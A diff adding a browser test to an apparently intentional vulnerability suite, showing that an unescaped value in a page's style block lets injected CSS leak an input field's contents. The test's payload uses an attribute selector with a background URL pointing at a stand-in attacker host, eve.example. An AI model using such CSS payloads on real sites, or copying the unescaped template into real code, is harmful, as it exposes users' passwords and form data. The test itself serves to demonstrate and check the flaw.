@@ -190,3 +190,21 @@ def test_holes_are_real_and_can_be_fixed(run):
 
     assert ran == set(range(len(holes)))
     assert still == set()
+
+
+def test_style_sheet_can_read_a_field_of_its_page(browser):
+    # nothing in it is escaped, and no script runs
+    rule = "red} input[value^=h]{background:url(http://eve.example/h)"
+    page = browser.new_page()
+    page.route("**/*", lambda route: route.abort())
+    source = "<style>p {{ color: {{{{ x }}}} }}</style><input value={value!r}>"
+    asked = []
+    page.on("request", lambda request: asked.append(request.url))
+    try:
+        for value in ["hunter2", "other"]:
+            page.set_content(page_of_step_11(source.format(value=value), x=rule))
+            page.wait_for_timeout(100)
+    finally:
+        page.close()
+
+    assert asked == ["http://eve.example/h"]
